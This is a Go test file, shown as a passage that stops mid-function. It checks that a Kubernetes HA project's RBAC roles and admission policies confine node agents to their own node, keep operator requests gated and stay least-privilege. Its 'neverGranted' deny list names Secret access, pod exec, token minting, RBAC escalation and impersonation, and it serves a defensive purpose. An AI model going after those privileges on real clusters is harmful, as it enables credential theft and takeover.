package config

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	authenticationv1 "k8s.io/api/authentication/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime"
	utilyaml "k8s.io/apimachinery/pkg/util/yaml"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/kubernetes/scheme"
	"k8s.io/client-go/rest"
	ctrl "sigs.k8s.io/controller-runtime"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/log/zap"

	hav1alpha1 "github.com/hamon-ha/hamon/api/v1alpha1"
	"github.com/hamon-ha/hamon/hack/testenv"
)

// These tests install the manifests of config/rbac and config/policy in a
// real kube-apiserver (RBAC authorization, service account tokens signed by
// the API server, ValidatingAdmissionPolicy) and check, as the identities
// that will use them, what they allow and refuse.

var env *testenv.Env

const (
	agentNS   = "hamon-system"
	agentSA   = "hamon-nodeagent"
	managerSA = "hamon-manager"
	nodeA     = "node-a"
	nodeB     = "node-b"
	nodeC     = "node-c" // runs the agent pod whose pod-bound token is tested

	// policyDeadline bounds the wait for a new policy or binding to be in
	// force: the API server loads them asynchronously.
	policyDeadline = 30 * time.Second
)

func TestMain(m *testing.M) {
	ctrl.SetLogger(zap.New(zap.WriteTo(io.Discard)))
	testenv.Main(m, &env, setup)
}

// setup installs every manifest of config/rbac and config/policy, as
// kubectl apply -R would, then what a deployment adds: the agent's
// namespace, ServiceAccounts and ClusterRoleBindings, and the Nodes.
func setup(e *testenv.Env) error {
	ctx := context.Background()
	for _, dir := range []string{"rbac", "policy"} {
		objs, err := manifests(filepath.Join(testenv.RepoRoot(), "config", dir))
		if err != nil {
			return err
		}
		for _, u := range objs {
			if err := e.Client.Create(ctx, u); err != nil {
				return err
			}
		}
	}
	objs := []client.Object{
		&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: agentNS}},
		&corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: agentSA, Namespace: agentNS}},
		&corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: managerSA, Namespace: agentNS}},
		clusterRoleBinding("hamon-nodeagent", "hamon-nodeagent", rbacv1.Subject{Kind: rbacv1.ServiceAccountKind, Name: agentSA, Namespace: agentNS}),
		clusterRoleBinding("hamon-manager", "hamon-manager", rbacv1.Subject{Kind: rbacv1.ServiceAccountKind, Name: managerSA, Namespace: agentNS}),
	}
	for _, n := range []string{nodeA, nodeB, nodeC} {
		objs = append(objs, &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: n}})
	}
	for _, o := range objs {
		if err := e.Client.Create(ctx, o); err != nil {
			return err
		}
	}
	return nil
}

// manifests decodes every object of every .yaml file under dir.
func manifests(dir string) ([]*unstructured.Unstructured, error) {
	var out []*unstructured.Unstructured
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || filepath.Ext(path) != ".yaml" {
			return err
		}
		data, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		dec := utilyaml.NewYAMLOrJSONDecoder(bytes.NewReader(data), 4096)
		for {
			u := &unstructured.Unstructured{}
			if err := dec.Decode(&u.Object); err != nil {
				if errors.Is(err, io.EOF) {
					return nil
				}
				return err
			}
			if len(u.Object) > 0 {
				out = append(out, u)
			}
		}
	})
	return out, err
}

func clusterRoleBinding(name, role string, subjects ...rbacv1.Subject) *rbacv1.ClusterRoleBinding {
	return &rbacv1.ClusterRoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: name},
		RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: role},
		Subjects:   subjects,
	}
}

func userSubject(name string) rbacv1.Subject {
	return rbacv1.Subject{Kind: rbacv1.UserKind, APIGroup: rbacv1.GroupName, Name: name}
}

func create(t *testing.T, objs ...client.Object) {
	t.Helper()
	for _, o := range objs {
		if err := env.Client.Create(t.Context(), o); err != nil {
			t.Fatalf("creating %T %s: %v", o, o.GetName(), err)
		}
	}
}

// clientFor is a client that authenticates with cfg's credentials only
// (a bearer token or an impersonation), never as the administrator.
func clientFor(t *testing.T, cfg *rest.Config) client.Client {
	t.Helper()
	c, err := client.New(cfg, client.Options{Scheme: scheme.Scheme, Mapper: env.Client.RESTMapper()})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// clientWithToken authenticates with a bearer token only.
func clientWithToken(t *testing.T, token string) client.Client {
	t.Helper()
	cfg := rest.AnonymousClientConfig(env.Config)
	cfg.BearerToken = token
	return clientFor(t, cfg)
}

// clientAs impersonates a user (the API server adds system:authenticated).
func clientAs(t *testing.T, user string) client.Client {
	t.Helper()
	cfg := rest.CopyConfig(env.Config)
	cfg.Impersonate = rest.ImpersonationConfig{UserName: user}
	return clientFor(t, cfg)
}

// agentToken asks the TokenRequest API for a token of the agent's
// ServiceAccount, bound to ref (nil: bound to nothing).
func agentToken(t *testing.T, ref *authenticationv1.BoundObjectReference) string {
	t.Helper()
	cs, err := kubernetes.NewForConfig(env.Config)
	if err != nil {
		t.Fatal(err)
	}
	exp := int64(3600)
	tr, err := cs.CoreV1().ServiceAccounts(agentNS).CreateToken(t.Context(), agentSA, &authenticationv1.TokenRequest{
		Spec: authenticationv1.TokenRequestSpec{ExpirationSeconds: &exp, BoundObjectRef: ref},
	}, metav1.CreateOptions{})
	if err != nil {
		t.Fatalf("TokenRequest for %s/%s bound to %+v: %v", agentNS, agentSA, ref, err)
	}
	return tr.Status.Token
}

// nodeBoundAgent is the agent of a node, with a token bound to the Node
// object (TokenRequest boundObjectRef kind Node).
func nodeBoundAgent(t *testing.T, node string) client.Client {
	t.Helper()
	var n corev1.Node
	if err := env.Client.Get(t.Context(), client.ObjectKey{Name: node}, &n); err != nil {
		t.Fatal(err)
	}
	return clientWithToken(t, agentToken(t, &authenticationv1.BoundObjectReference{
		Kind: "Node", APIVersion: "v1", Name: n.Name, UID: n.UID,
	}))
}

// refused fails unless err is a Forbidden error whose message contains every want.
func refused(t *testing.T, what string, err error, wants ...string) {
	t.Helper()
	if err == nil {
		t.Errorf("%s: allowed, want it refused (%q)", what, wants)
		return
	}
	if !apierrors.IsForbidden(err) {
		t.Errorf("%s: got %v, want Forbidden", what, err)
	}
	for _, w := range wants {
		if !strings.Contains(err.Error(), w) {
			t.Errorf("%s: error %q does not say %q", what, err, w)
		}
	}
}

func allowed(t *testing.T, what string, err error) {
	t.Helper()
	if err != nil {
		t.Fatalf("%s: %v", what, err)
	}
}

// untilRefused polls probe (a dry run, so nothing is written) until it
// is refused with a message containing want: a new policy, binding or
// RoleBinding takes effect a moment after it is created.
func untilRefused(t *testing.T, what string, probe func() error, want string) {
	t.Helper()
	poll(t, what+" is refused with "+want, func() error {
		switch err := probe(); {
		case err == nil:
			return errors.New("allowed")
		case !strings.Contains(err.Error(), want):
			return fmt.Errorf("refused otherwise: %w", err)
		}
		return nil
	})
}

// untilAllowed polls probe until it succeeds (RBAC bindings are cached).
func untilAllowed(t *testing.T, what string, probe func() error) {
	t.Helper()
	poll(t, what+" is allowed", probe)
}

// poll calls probe every 100 ms until it returns nil, and fails the test
// with probe's last error after policyDeadline.
func poll(t *testing.T, what string, probe func() error) {
	t.Helper()
	deadline := time.Now().Add(policyDeadline)
	for {
		err := probe()
		if err == nil {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("waited %s until %s: %v", policyDeadline, what, err)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

func dryRun() client.CreateOption { return client.DryRunAll }

// waitForAgentPolicy waits until the node-agent policy is in force for c,
// an agent bound to node: creating the HANode of another node is refused.
func waitForAgentPolicy(t *testing.T, c client.Client, node string) {
	t.Helper()
	untilRefused(t, "agent of "+node+" creating HANode probe-node", func() error {
		return c.Create(t.Context(), &hav1alpha1.HANode{ObjectMeta: metav1.ObjectMeta{Name: "probe-node"}}, dryRun())
	}, "named after its own node ("+node+")")
}

func lease(ns, name string) *coordinationv1.Lease {
	d := int32(10)
	now := metav1.NewMicroTime(time.Now())
	return &coordinationv1.Lease{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name},
		Spec:       coordinationv1.LeaseSpec{HolderIdentity: &name, LeaseDurationSeconds: &d, RenewTime: &now},
	}
}

func haNode(name string) *hav1alpha1.HANode {
	return &hav1alpha1.HANode{ObjectMeta: metav1.ObjectMeta{Name: name}}
}

// writeOwnNode does what an agent does for its node: create its HANode,
// write its status (patch and update), create and renew its Lease.
func writeOwnNode(t *testing.T, c client.Client, node string) {
	t.Helper()
	ctx := t.Context()
	hn := haNode(node)
	allowed(t, "creating HANode "+node, c.Create(ctx, hn))
	before := hn.DeepCopy()
	hn.Status.AgentVersion, hn.Status.BootID, hn.Status.Fencing = "test", "boot-1", hav1alpha1.FencingNone
	allowed(t, "patching HANode "+node+" status", c.Status().Patch(ctx, hn, client.MergeFrom(before)))
	hn.Status.BootID = "boot-2"
	allowed(t, "updating HANode "+node+" status", c.Status().Update(ctx, hn))
	l := lease(agentNS, node)
	allowed(t, "creating Lease "+node, c.Create(ctx, l))
	now := metav1.NewMicroTime(time.Now())
	l.Spec.RenewTime = &now
	allowed(t, "renewing Lease "+node, c.Update(ctx, l))
}

// TestNodeAgentIsConfinedToItsNode: with tokens bound to Node A and Node B
// through the TokenRequest API, each agent writes its own HANode, HANode
// status and Lease, and nothing of the other node's.
func TestNodeAgentIsConfinedToItsNode(t *testing.T) {
	ctx := t.Context()
	agentA, agentB := nodeBoundAgent(t, nodeA), nodeBoundAgent(t, nodeB)
	waitForAgentPolicy(t, agentB, nodeB)

	t.Run("agent B may not create HANode A", func(t *testing.T) {
		refused(t, "agent B creating HANode node-a", agentB.Create(ctx, haNode(nodeA)),
			"hamon node agent of node node-b may not create HANode node-a",
			"writes only the HANode and the Lease named after its own node (node-b)")
	})
	t.Run("agent B may not admit itself", func(t *testing.T) {
		hn := haNode(nodeB)
		hn.Spec.AdmittedBootID = "boot-2"
		refused(t, "agent B creating HANode node-b with spec.admittedBootID", agentB.Create(ctx, hn),
			"may not set or change the spec of HANode node-b", "never by itself")
	})
	t.Run("each agent writes its own node", func(t *testing.T) {
		writeOwnNode(t, agentA, nodeA)
		writeOwnNode(t, agentB, nodeB)
	})
	t.Run("agent B may not write HANode A status", func(t *testing.T) {
		var hn hav1alpha1.HANode
		if err := agentB.Get(ctx, client.ObjectKey{Name: nodeA}, &hn); err != nil {
			t.Fatalf("agent B reading HANode node-a: %v", err)
		}
		before := hn.DeepCopy()
		hn.Status.Fencing = hav1alpha1.FencingFenced
		want := []string{"may not update HANode node-a status", "named after its own node (node-b)"}
		refused(t, "agent B patching HANode node-a status", agentB.Status().Patch(ctx, &hn, client.MergeFrom(before)), want...)
		refused(t, "agent B updating HANode node-a status", agentB.Status().Update(ctx, &hn), want...)
	})
	t.Run("agent B may not write Lease A", func(t *testing.T) {
		var l coordinationv1.Lease
		if err := agentB.Get(ctx, client.ObjectKey{Namespace: agentNS, Name: nodeA}, &l); err != nil {
			t.Fatalf("agent B reading Lease node-a: %v", err)
		}
		now := metav1.NewMicroTime(time.Now())
		l.Spec.RenewTime = &now
		refused(t, "agent B renewing Lease node-a", agentB.Update(ctx, &l),
			"may not update Lease hamon-system/node-a", "named after its own node (node-b)")
		refused(t, "agent B creating Lease node-x", agentB.Create(ctx, lease(agentNS, "node-x"), dryRun()),
			"may not create Lease hamon-system/node-x")
	})
	t.Run("agent B may not write a Lease named node-b elsewhere", func(t *testing.T) {
		refused(t, "agent B creating Lease kube-node-lease/node-b", agentB.Create(ctx, lease("kube-node-lease", nodeB), dryRun()),
			"may not create Lease kube-node-lease/node-b", "its heartbeat Lease lives in its own namespace (hamon-system)")
	})
	t.Run("agent A's own writes still pass after B's refusals", func(t *testing.T) {
		var hn hav1alpha1.HANode
		if err := agentA.Get(ctx, client.ObjectKey{Name: nodeA}, &hn); err != nil {
			t.Fatal(err)
		}
		if hn.Status.Fencing != hav1alpha1.FencingNone || hn.Status.BootID != "boot-2" {
			t.Errorf("HANode node-a status changed by agent B's refused writes: %+v", hn.Status)
		}
		hn.Status.BootID = "boot-3"
		allowed(t, "agent A updating its HANode status", agentA.Status().Update(ctx, &hn))
	})
}

// TestNodeAgentWithPodBoundToken: the token the kubelet projects into the
// agent's pod is bound to the pod, and the API server adds the pod's node to
// it: such an agent, too, writes only its own node.
func TestNodeAgentWithPodBoundToken(t *testing.T) {
	ctx := t.Context()
	pod := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: "hamon-nodeagent-c", Namespace: agentNS},
		Spec: corev1.PodSpec{
			NodeName:           nodeC,
			ServiceAccountName: agentSA,
			Containers:         []corev1.Container{{Name: "agent", Image: "hamon-nodeagent"}},
		},
	}
	create(t, pod)
	agentC := clientWithToken(t, agentToken(t, &authenticationv1.BoundObjectReference{
		Kind: "Pod", APIVersion: "v1", Name: pod.Name, UID: pod.UID,
	}))
	waitForAgentPolicy(t, agentC, nodeC)
	writeOwnNode(t, agentC, nodeC)
	refused(t, "agent C creating HANode node-a", agentC.Create(ctx, haNode(nodeA), dryRun()),
		"hamon node agent of node node-c may not create HANode node-a")
	refused(t, "agent C creating Lease node-a", agentC.Create(ctx, lease(agentNS, nodeA), dryRun()),
		"hamon node agent of node node-c may not create Lease hamon-system/node-a")
}

// TestNodeAgentTokenWithoutNodeIsRefused: a token of the agent's
// ServiceAccount bound to no node writes nothing, not even a node that
// does not exist yet.
func TestNodeAgentTokenWithoutNodeIsRefused(t *testing.T) {
	ctx := t.Context()
	unbound := clientWithToken(t, agentToken(t, nil))
	want := "its token is bound to no node"
	untilRefused(t, "an unbound agent token creating HANode node-b", func() error {
		return unbound.Create(ctx, haNode(nodeB), dryRun())
	}, want)
	refused(t, "an unbound agent token creating HANode node-z", unbound.Create(ctx, haNode("node-z"), dryRun()),
		"hamon node agent system:serviceaccount:hamon-system:hamon-nodeagent may not create HANode node-z", want)
	refused(t, "an unbound agent token creating Lease node-z", unbound.Create(ctx, lease(agentNS, "node-z"), dryRun()),
		"may not create Lease hamon-system/node-z", want)
	// An HANode the token could otherwise write.
	var hn hav1alpha1.HANode
	create(t, haNode("node-unbound"))
	if err := unbound.Get(ctx, client.ObjectKey{Name: "node-unbound"}, &hn); err != nil {
		t.Fatal(err)
	}
	hn.Status.BootID = "forged"
	refused(t, "an unbound agent token updating HANode status", unbound.Status().Update(ctx, &hn), want)
}

// TestNodeBoundTokensCarryTheNode: the premise of the node-agent policy.
// A token bound to a Node, or to a Pod on a node, authenticates with the
// node's name in the user's extra; an unbound one without it.
func TestNodeBoundTokensCarryTheNode(t *testing.T) {
	const key = "authentication.kubernetes.io/node-name"
	for _, c := range []struct {
		name string
		c    client.Client
		want []string
	}{
		{"bound to Node node-a", nodeBoundAgent(t, nodeA), []string{nodeA}},
		{"unbound", clientWithToken(t, agentToken(t, nil)), nil},
	} {
		r := &authenticationv1.SelfSubjectReview{}
		if err := c.c.Create(t.Context(), r); err != nil {
			t.Fatalf("%s: SelfSubjectReview: %v", c.name, err)
		}
		u := r.Status.UserInfo
		if u.Username != "system:serviceaccount:"+agentNS+":"+agentSA {
			t.Errorf("%s: username %q", c.name, u.Username)
		}
		if got := []string(u.Extra[key]); !slices.Equal(got, c.want) {
			t.Errorf("%s: extra %s = %q, want %q", c.name, key, got, c.want)
		}
	}
}

// A minimal valid HAServer.
func haServer(ns, name string) *hav1alpha1.HAServer {
	return &hav1alpha1.HAServer{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name},
		Spec: hav1alpha1.HAServerSpec{
			Hosts: []hav1alpha1.HostSpec{{Node: nodeA}, {Node: nodeB}},
			Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{
				Containers: []corev1.Container{{Name: "server", Image: "busybox"}},
			}},
		},
	}
}

// TestOperatorRequestsNeedTheRequestVerb: an editor (HAServers,
// HAServerGroups and pods, as the aggregated "edit" role would give) changes
// other spec fields but cannot set or change spec.request, on create or on
// update; hamon-operator can, in the namespaces it is bound in; the
// controller's status writes are not affected; a viewer writes nothing.
func TestOperatorRequestsNeedTheRequestVerb(t *testing.T) {
	ctx := t.Context()
	const nsIn, nsOut = "ops-in", "ops-out"
	// Like the aggregated "edit" role: HAServers and pods.
	editor := &rbacv1.ClusterRole{
		ObjectMeta: metav1.ObjectMeta{Name: "test-hamon-editor"},
		Rules: []rbacv1.PolicyRule{{
			APIGroups: []string{hav1alpha1.GroupVersion.Group},
			Resources: []string{"haservers", "haservergroups"},
			Verbs:     []string{"get", "list", "watch", "create", "update", "patch", "delete"},
		}, {
			APIGroups: []string{""},
			Resources: []string{"pods"},
			Verbs:     []string{"get", "list", "watch", "create", "update", "patch", "delete"},
		}},
	}
	create(t,
		&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: nsIn}},
		&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: nsOut}},
		editor,
		// eve edits everywhere; olga edits everywhere and is an operator in nsIn only.
		clusterRoleBinding("test-editors", editor.Name, userSubject("eve"), userSubject("olga")),
		&rbacv1.RoleBinding{
			ObjectMeta: metav1.ObjectMeta{Name: "operators", Namespace: nsIn},
			RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "hamon-operator"},
			Subjects:   []rbacv1.Subject{userSubject("olga")},
		},
		clusterRoleBinding("test-viewers", "hamon-viewer", userSubject("vera")),
	)
	eve, olga, vera := clientAs(t, "eve"), clientAs(t, "olga"), clientAs(t, "vera")
	swap := func(id string) *hav1alpha1.OperatorRequest {
		return &hav1alpha1.OperatorRequest{ID: id, Action: hav1alpha1.ActionSwap}
	}
	// In force: eve's RBAC binding and the policy.
	untilRefused(t, "eve creating an HAServer with a request", func() error {
		s := haServer(nsIn, "probe")
		s.Spec.Request = swap("r0")
		return eve.Create(ctx, s, dryRun())
	}, `operator requests need the verb "request" on haservers.ha.hamon.io, which the ClusterRole hamon-operator grants`)
	untilAllowed(t, "olga creating an HAServer with a request in "+nsIn, func() error {
		s := haServer(nsIn, "probe")
		s.Spec.Request = swap("r0")
		return olga.Create(ctx, s, dryRun())
	})

	db := haServer(nsIn, "db")
	t.Run("an editor creates and edits a server without a request", func(t *testing.T) {
		allowed(t, "eve creating HAServer db", eve.Create(ctx, db))
		db.Spec.SwitchType = hav1alpha1.SwitchTypeRestart
		allowed(t, "eve changing spec.switchType", eve.Update(ctx, db))
	})
	t.Run("an editor cannot issue a request", func(t *testing.T) {
		s := db.DeepCopy()
		s.Spec.Request = swap("r1")
		refused(t, "eve setting spec.request", eve.Update(ctx, s),
			"eve may not set spec.request of haservers ops-in/db (Swap r1)", `need the verb "request"`, "hamon-operator")
		before := db.DeepCopy()
		refused(t, "eve patching spec.request", eve.Patch(ctx, s, client.MergeFrom(before)), `need the verb "request"`)
		s = haServer(nsIn, "db2")
		s.Spec.Request = swap("r1")
		refused(t, "eve creating an HAServer with spec.request", eve.Create(ctx, s), "eve may not set spec.request of haservers ops-in/db2")
	})
	t.Run("an operator issues requests in its namespace", func(t *testing.T) {
		if err := olga.Get(ctx, client.ObjectKeyFromObject(db), db); err != nil {
			t.Fatal(err)
		}
		db.Spec.Request = swap("r1")
		allowed(t, "olga setting spec.request", olga.Update(ctx, db))
		before := db.DeepCopy()
		db.Spec.Request = &hav1alpha1.OperatorRequest{ID: "r2", Action: hav1alpha1.ActionSwap, Force: true}
		allowed(t, "olga changing spec.request to a forced swap", olga.Patch(ctx, db, client.MergeFrom(before)))
	})
	t.Run("an editor cannot change a request but may edit the rest", func(t *testing.T) {
		if err := eve.Get(ctx, client.ObjectKeyFromObject(db), db); err != nil {
			t.Fatal(err)
		}
		s := db.DeepCopy()
		s.Spec.Request.ID = "r3"
		refused(t, "eve changing the request's id", eve.Update(ctx, s), `need the verb "request"`)
		s = db.DeepCopy()
		s.Spec.Request.Node = nodeA
		refused(t, "eve changing the request's node", eve.Update(ctx, s), `need the verb "request"`)
		db.Spec.SwitchType = hav1alpha1.SwitchTypeManual
		allowed(t, "eve changing spec.switchType while a request is set", eve.Update(ctx, db))
		db.Spec.Request = nil
		allowed(t, "eve removing spec.request", eve.Update(ctx, db))
	})
	t.Run("an operator bound in one namespace cannot issue requests in another", func(t *testing.T) {
		s := haServer(nsOut, "db")
		allowed(t, "olga creating HAServer ops-out/db", olga.Create(ctx, s))
		s.Spec.Request = swap("r1")
		refused(t, "olga setting spec.request in ops-out", olga.Update(ctx, s),
			"olga may not set spec.request of haservers ops-out/db", `need the verb "request"`)
	})
	t.Run("group requests need the verb too", func(t *testing.T) {
		g := &hav1alpha1.HAServerGroup{ObjectMeta: metav1.ObjectMeta{Namespace: nsIn, Name: "g"}}
		allowed(t, "eve creating HAServerGroup g", eve.Create(ctx, g))
		s := g.DeepCopy()
		s.Spec.Request = swap("g1")
		refused(t, "eve setting a group request", eve.Update(ctx, s),
			"eve may not set spec.request of haservergroups ops-in/g (Swap g1)", `need the verb "request" on haservergroups.ha.hamon.io`)
		if err := olga.Get(ctx, client.ObjectKeyFromObject(g), g); err != nil {
			t.Fatal(err)
		}
		g.Spec.Request = swap("g1")
		allowed(t, "olga setting a group request", olga.Update(ctx, g))
	})
	t.Run("the controller writes status of a server with a request", func(t *testing.T) {
		manager := clientAs(t, "system:serviceaccount:"+agentNS+":"+managerSA)
		s := haServer(nsIn, "with-request")
		s.Spec.Request = swap("r1")
		create(t, s)
		before := s.DeepCopy()
		s.Status.Phase = hav1alpha1.PhaseOnline
		s.Status.LastRequest = &hav1alpha1.RequestStatus{ID: "r1", Action: hav1alpha1.ActionSwap, Outcome: hav1alpha1.RequestInProgress}
		untilAllowed(t, "hamon-manager patching HAServer status", func() error {
			return manager.Status().Patch(ctx, s, client.MergeFrom(before))
		})
		s.Spec.Request = swap("r2")
		refused(t, "hamon-manager setting spec.request", manager.Update(ctx, s), "cannot update resource \"haservers\"")
	})
	t.Run("a viewer reads and writes nothing", func(t *testing.T) {
		var list hav1alpha1.HAServerList
		untilAllowed(t, "vera listing HAServers", func() error { return vera.List(ctx, &list, client.InNamespace(nsIn)) })
		s := db.DeepCopy()
		s.Spec.SwitchType = hav1alpha1.SwitchTypeSwitch
		refused(t, "vera changing spec.switchType", vera.Update(ctx, s), `cannot update resource "haservers"`)
	})
}

// clusterRole reads a ClusterRole from a YAML file of config/rbac.
func clusterRole(t *testing.T, file, name string) *rbacv1.ClusterRole {
	t.Helper()
	objs, err := manifests(filepath.Join(testenv.RepoRoot(), "config", "rbac"))
	if err != nil {
		t.Fatal(err)
	}
	for _, u := range objs {
		if u.GetKind() == "ClusterRole" && u.GetName() == name {
			var r rbacv1.ClusterRole
			if err := runtime.DefaultUnstructuredConverter.FromUnstructured(u.Object, &r); err != nil {
				t.Fatal(err)
			}
			return &r
		}
	}
	t.Fatalf("ClusterRole %s not found in config/rbac (%s)", name, file)
	return nil
}

// grants reports whether a rule of r grants verb on group/resource
// (a resource may be resource/subresource), wildcards included.
func grants(r *rbacv1.ClusterRole, verb, group, resource string) bool {
	for _, rule := range r.Rules {
		if (slices.Contains(rule.Verbs, verb) || slices.Contains(rule.Verbs, rbacv1.VerbAll)) &&
			(slices.Contains(rule.APIGroups, group) || slices.Contains(rule.APIGroups, rbacv1.APIGroupAll)) &&
			(slices.Contains(rule.Resources, resource) || slices.Contains(rule.Resources, rbacv1.ResourceAll)) {
			return true
		}
	}
	return false
}

type access struct{ verb, group, resource string }

func (a access) String() string {
	if a.group == "" {
		return a.verb + " " + a.resource
	}
	return a.verb + " " + a.resource + "." + a.group
}

const haGroup = "ha.hamon.io"

// Rights no hamon ClusterRole may grant: reading or writing Secrets, running commands
// in or attaching to containers, minting tokens, escalating through RBAC,
// impersonating, and changing or removing Nodes.
var neverGranted = []access{
	{"get", "", "secrets"}, {"list", "", "secrets"}, {"watch", "", "secrets"},
	{"create", "", "secrets"}, {"update", "", "secrets"}, {"patch", "", "secrets"}, {"delete", "", "secrets"},
	{"create", "", "pods/exec"}, {"get", "", "pods/exec"}, {"create", "", "pods/attach"},
	{"create", "", "pods/portforward"}, {"create", "", "serviceaccounts/token"},
	{"escalate", "rbac.authorization.k8s.io", "clusterroles"}, {"bind", "rbac.authorization.k8s.io", "clusterroles"},
	{"create", "rbac.authorization.k8s.io", "clusterrolebindings"}, {"create", "rbac.authorization.k8s.io", "rolebindings"},
	{"impersonate", "", "users"}, {"impersonate", "", "serviceaccounts"},
	{"update", "", "nodes"}, {"patch", "", "nodes"}, {"delete", "", "nodes"},
	{"create", "admissionregistration.k8s.io", "validatingadmissionpolicybindings"},
	{"delete", "admissionregistration.k8s.io", "validatingadmissionpolicies"},
}

// roleExpectations: what each ClusterRole must grant (its component's job)
// and must not (beyond neverGranted).
var roleExpectations = []struct {
	file, role string
	subject    authorizationv1.SubjectAccessReviewSpec
	must, not  []access
}{
	{
		file: "role.yaml", role: "hamon-manager",
		subject: saSubject(managerSA),
		must: []access{
			{"get", haGroup, "haservers"}, {"watch", haGroup, "haservers"}, {"patch", haGroup, "haservers/status"},
			{"patch", haGroup, "haservergroups/status"}, {"list", haGroup, "hanodes"},
			{"create", "", "pods"}, {"delete", "", "pods"}, {"patch", "", "pods"},
			{"list", "coordination.k8s.io", "leases"}, {"create", "events.k8s.io", "events"},
		},
		// The controller writes status only: spec (and spec.request) is people's.
		not: []access{
			{"update", haGroup, "haservers"}, {"patch", haGroup, "haservers"}, {"create", haGroup, "haservers"},
			{"delete", haGroup, "haservers"}, {"request", haGroup, "haservers"},
			{"update", haGroup, "haservergroups"}, {"patch", haGroup, "haservergroups"}, {"request", haGroup, "haservergroups"},
			{"update", haGroup, "hanodes/status"}, {"patch", haGroup, "hanodes/status"},
			{"update", "", "pods/status"}, {"create", "", "pods/eviction"}, {"create", "", "pods/binding"},
		},
	},
	{
		file: "nodeagent/role.yaml", role: "hamon-nodeagent",
		subject: saSubject(agentSA),
		must: []access{
			{"create", "coordination.k8s.io", "leases"}, {"update", "coordination.k8s.io", "leases"},
			{"create", haGroup, "hanodes"}, {"patch", haGroup, "hanodes/status"}, {"update", haGroup, "hanodes/status"},
			{"get", haGroup, "haservers"}, {"list", haGroup, "haservers"},
		},
		// An agent reads HAServers and writes its own node's HANode and Lease, nothing else.
		not: []access{
			{"create", haGroup, "haservers"}, {"update", haGroup, "haservers"}, {"patch", haGroup, "haservers"},
			{"delete", haGroup, "haservers"}, {"request", haGroup, "haservers"},
			{"update", haGroup, "haservers/status"}, {"patch", haGroup, "haservers/status"},
			{"update", haGroup, "haservergroups"}, {"patch", haGroup, "haservergroups/status"},
			{"update", haGroup, "hanodes"}, {"patch", haGroup, "hanodes"}, {"delete", haGroup, "hanodes"},
			{"delete", "coordination.k8s.io", "leases"},
			{"get", "", "pods"}, {"create", "", "pods"}, {"update", "", "pods"}, {"patch", "", "pods"}, {"delete", "", "pods"},
			{"update", "", "pods/status"}, {"create", "", "pods/eviction"},
		},
	},
	{
		file: "operator_role.yaml", role: "hamon-operator",
		subject: authorizationv1.SubjectAccessReviewSpec{User: "test-sar-operator"},
		must: []access{
			{"update", haGroup, "haservers"}, {"patch", haGroup, "haservers"}, {"request", haGroup, "haservers"},
			{"request", haGroup, "haservergroups"}, {"list", haGroup, "hanodes"}, {"list", "", "events"},
			{"list", "coordination.k8s.io", "leases"}, {"get", "", "pods/log"},
		},
		not: []access{
			{"create", haGroup, "haservers"}, {"delete", haGroup, "haservers"},
			{"update", haGroup, "haservers/status"}, {"patch", haGroup, "haservers/status"},
			{"update", haGroup, "hanodes"}, {"patch", haGroup, "hanodes/status"},
			{"update", "coordination.k8s.io", "leases"}, {"create", "", "pods"}, {"delete", "", "pods"},
		},
	},
	{
		file: "viewer_role.yaml", role: "hamon-viewer",
		subject: authorizationv1.SubjectAccessReviewSpec{User: "test-sar-viewer"},
		must:    []access{{"get", haGroup, "haservers"}, {"list", haGroup, "haservergroups"}, {"watch", haGroup, "hanodes"}},
		not: []access{
			{"update", haGroup, "haservers"}, {"patch", haGroup, "haservers"}, {"request", haGroup, "haservers"},
			{"create", haGroup, "haservers"}, {"request", haGroup, "haservergroups"}, {"get", "", "pods/log"},
		},
	},
}

func saSubject(name string) authorizationv1.SubjectAccessReviewSpec {
	return authorizationv1.SubjectAccessReviewSpec{
		User:   "system:serviceaccount:" + agentNS + ":" + name,
		Groups: []string{"system:serviceaccounts", "system:serviceaccounts:" + agentNS, "system:authenticated"},
	}
}

// TestRolesAreLeastPrivilege reads the ClusterRoles as generated (from the
// kubebuilder markers) or written, and checks that none grants wildcards,
// non-resource URLs or any of neverGranted, and that each grants what its
// component needs and nothing on the list of what it must not.
func TestRolesAreLeastPrivilege(t *testing.T) {
	for _, e := range roleExpectations {
		t.Run(e.role, func(t *testing.T) {
			r := clusterRole(t, e.file, e.role)
			for _, rule := range r.Rules {
				for _, list := range [][]string{rule.Verbs, rule.APIGroups, rule.Resources} {
					if slices.Contains(list, "*") {
						t.Errorf("%s: rule %v has a wildcard", e.file, rule)
					}
				}
				if len(rule.NonResourceURLs) > 0 {
					t.Errorf("%s: rule %v grants non-resource URLs", e.file, rule)
				}
			}
			for _, a := range e.must {
				if !grants(r, a.verb, a.group, a.resource) {
					t.Errorf("%s: %s does not grant %s, which its component needs", e.file, e.role, a)
				}
			}
